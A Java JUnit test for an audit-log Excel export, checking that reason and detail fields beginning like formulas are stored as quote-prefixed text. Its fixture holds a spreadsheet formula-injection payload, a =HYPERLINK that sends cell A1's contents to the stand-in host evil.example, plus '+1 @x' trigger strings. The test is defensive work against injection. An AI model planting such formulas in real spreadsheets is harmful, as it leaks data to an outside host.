package org.tongxin.domain.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.time.LocalDateTime;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class AuditWorkbookTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")";

    @Test
    void aNoteThatLooksLikeAFormulaStaysQuotedText() throws Exception {
        AuditLog.Page page = new AuditLog.Page(new AuditLog.Chain(2, true, null, null), List.of(
                new AuditLog.Shown(2, "2026-11-27T09:30:00.000+08:00", "test-prosecutor", "prosecutor", "lead.read",
                        List.of("L-1"), HYPERLINK, "+1 @x", List.of("L-1"), "+1 @x"),
                new AuditLog.Shown(1, "2026-11-27T09:00:00", "test-analyst", "analyst", "lead.read",
                        List.of("L-2"), "核查需要", "", List.of("L-2"), "")));
        byte[] bytes = AuditWorkbook.xlsx(new AuditWorkbook.Filter(null, null, null, null), page,
                LocalDateTime.of(2026, 11, 27, 10, 0));
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            Sheet s = wb.getSheetAt(0);
            Row header = s.getRow(4);
            int why = AuditWorkbook.COLUMNS.indexOf("理由");
            int detail = AuditWorkbook.COLUMNS.indexOf("详情");
            assertThat(header.getCell(why).getStringCellValue()).isEqualTo("理由");
            Cell note = s.getRow(5).getCell(why);
            assertThat(note.getCellType()).isEqualTo(CellType.STRING);
            assertThat(note.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(note.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(s.getRow(5).getCell(detail).getCellStyle().getQuotePrefixed()).isTrue();
            Cell plain = s.getRow(6).getCell(why);
            assertThat(plain.getStringCellValue()).isEqualTo("核查需要");
            assertThat(plain.getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(s.getRow(5).getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
        }
    }
}
